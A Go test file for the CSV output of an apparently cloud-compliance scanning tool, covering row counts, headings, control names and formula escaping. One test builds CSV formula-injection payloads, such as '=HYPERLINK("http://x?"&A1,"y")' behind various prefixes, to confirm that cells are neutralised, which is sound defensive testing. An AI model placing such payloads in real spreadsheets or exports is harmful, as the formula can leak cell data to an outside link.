package report

import (
	"encoding/csv"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/assize-dev/assize"
)

func readCSV(t *testing.T, text string) [][]string {
	t.Helper()
	rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

// A row for each finding, all of the width of the heading.
func TestCSVRows(t *testing.T) {
	t.Parallel()
	x := newFake()
	rows := readCSV(t, x.render(t, "csv", Options{}))
	if got, want := len(rows), len(x.findings)+1; got != want {
		t.Errorf("%d rows, want %d", got, want)
	}
	if diff := cmp.Diff(csvHeading, rows[0]); diff != "" {
		t.Errorf("heading (-want +got):\n%s", diff)
	}
	id := slices.Index(csvHeading, "id")
	if got, want := rows[1][id], x.findings[0].Resource.ID; got != want {
		t.Errorf("id %q, want %q", got, want)
	}
}

// No cell begins with what a spreadsheet takes for a formula, whatever a resource is
// called, whichever separator the spreadsheet is set to.
func TestCSVFormulas(t *testing.T) {
	t.Parallel()
	starts := []string{"=", "+", "-", "@", "\t=", "\r=", " =", "\"=", "'=", "＝", "x;=", "x; \"@", "x\t=", ";;-"}
	for _, start := range starts {
		name := start + `HYPERLINK("http://x?"&A1,"y")`
		rows := readCSV(t, everywhere(name).render(t, "csv", Options{}))
		for _, row := range rows[1:] {
			for i, cell := range row {
				for part := range strings.SplitSeq(cell, ";") {
					if part != "" && strings.ContainsAny(part[:1], "=+-@\t\r") || strings.HasPrefix(part, "＝") {
						t.Fatalf("%q: column %s holds %q", name, csvHeading[i], cell)
					}
				}
			}
		}
	}
	for _, harmless := range []string{"a=b", "arn:aws:s3:::x", "eu-west-1", "", "a;b"} {
		if got := csvCell(harmless); got != harmless {
			t.Errorf("%q became %q", harmless, got)
		}
	}
}

func TestCSVNamesControls(t *testing.T) {
	t.Parallel()
	rows := readCSV(t, newFake().render(t, "csv", Options{}))
	outcome, check, controls := slices.Index(csvHeading, "outcome"), slices.Index(csvHeading, "check"), slices.Index(csvHeading, "controls")
	for _, row := range rows[1:] {
		if !assize.Outcome(row[outcome]).Valid() {
			t.Errorf("outcome %q", row[outcome])
		}
		if row[check] == "bedrock_model_invocation_logging_enabled" && row[controls] != "Bedrock.1 log" {
			t.Errorf("controls %q", row[controls])
		}
	}
}
